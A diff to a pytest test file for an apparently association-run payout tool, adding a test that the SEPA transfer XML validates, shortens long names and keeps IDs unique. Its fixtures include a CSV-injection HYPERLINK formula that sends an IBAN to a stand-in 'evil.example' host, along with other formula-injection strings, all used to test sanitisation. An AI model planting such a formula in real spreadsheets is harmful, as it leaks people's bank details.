@@ -18,9 +18,12 @@ import csv
 import io
 import json
 import re
+import xml.etree.ElementTree as ET
 from pathlib import Path
 
 import pytest
+import sepaxml
+import xmlschema
 from markdown_it import MarkdownIt
 
 from conftest import REPO, Fab
@@ -220,7 +223,7 @@ def test_escapes_never_reach_the_terminal_or_a_file_raw(hostile, tmp_path):
     assert _raw(out.read_text("utf-8")) == []
 
 
-# --- 3. every CSV cell is safe --------------------------------------------------------------------------
+# --- 3. every CSV cell is safe; 5. the SEPA file --------------------------------------------------------------
 
 LYON, LILLE = "association-velo-cargo-lyon", "association-velo-cargo-lille"  # the same first 23 characters
 HYPERLINK = '=HYPERLINK("https://evil.example/?iban="&F2,"Click to approve")'
@@ -302,6 +305,43 @@ def test_every_csv_cell_is_safe(formulas, tmp_path):
     alert = next(row for row in rows["agenda"] if row["list"] == "alerts")
     assert (alert["subject"], alert["detail"]) == ("'-1+1 Conseil", "'\\u0009=1+1")  # the tab shown, as on a screen
     assert [row["amount"] for row in rows["split"]] == ["400.00", "400.00", "200.00"]  # numbers stay numbers
+
+
+def test_sepa_file_of_two_long_similar_handles(formulas, tmp_path):
+    out = tmp_path / "private/virements.xml"
+    result = formulas("payouts", "2026-H1", "--format", "sepa", "--payees", str(tmp_path / "private/payees.yaml"),
+                      "--output", str(out))
+    assert (result.code, result.out) == (0, "")
+    assert result.err.splitlines() == [
+        "note: the name of the debtor account is shortened to 70 characters in the SEPA file (the most a bank takes): "
+        "'Association Fabrique des Mobilites + Compagnie 'Les Communs' -- fonds'",
+        f"note: the name of {LILLE} is shortened to 70 characters in the SEPA file (the most a bank takes): "
+        "'Association Velo Cargo Lille + Ateliers (Solidaires) 'Les Roues' / . d'",
+        f"note: the name of {LYON} is shortened to 70 characters in the SEPA file (the most a bank takes): "
+        "'Association Velo Cargo Lyon + Ateliers (Solidaires) 'Les Roues' / . de'",
+        f"2026-H1: 3 transfers, €1,000.00 (in {out})",
+        "once paid: fab payouts 2026-H1 --mark-paid REFERENCE",
+    ]
+    xsd = Path(sepaxml.__file__).parent / "schemas" / "pain.001.001.03.xsd"
+    xmlschema.XMLSchema(str(xsd)).validate(str(out))
+    ns = {"p": "urn:iso:std:iso:20022:tech:xsd:pain.001.001.03"}
+    root = ET.parse(out).getroot()
+    ids = [e.text for e in root.iterfind(".//p:CdtTrfTxInf/p:PmtId/p:EndToEndId", ns)]
+    assert ids == [f"FAB-2026-H1-association-ve/{_sha(LILLE)}", f"FAB-2026-H1-association-ve/{_sha(LYON)}", "FAB-2026-H1-eve"]
+    assert (_sha(LILLE), _sha(LYON)) == ("8b0049dd", "196c0077") and all(len(i) <= 35 for i in ids)
+    texts = [e.text for e in root.iter() if e.tag.endswith(("}Nm", "}Ustrd"))]
+    assert all(re.fullmatch(r"[A-Za-z0-9/?:().,'+ -]{1,140}", t) for t in texts), texts
+    assert "=1+2 Fabrique - co-remuneration 2026-H1" not in out.read_text() and \
+        "1+2 Fabrique - co-remuneration 2026-H1" in texts
+    # the CSV gives the same ids, so that the treasurer can match the bank's statement with either
+    listed = formulas("payouts", "2026-H1", "--payees", str(tmp_path / "private/payees.yaml"))
+    assert [row["end_to_end_id"] for row in csv.DictReader(io.StringIO(listed.out))] == ids
+
+
+def _sha(handle: str) -> str:
+    import hashlib
+
+    return hashlib.sha256(handle.encode()).hexdigest()[:8]
 
 
 # --- 4. Markdown and MediaWiki render nothing from record text -----------------------------------------------
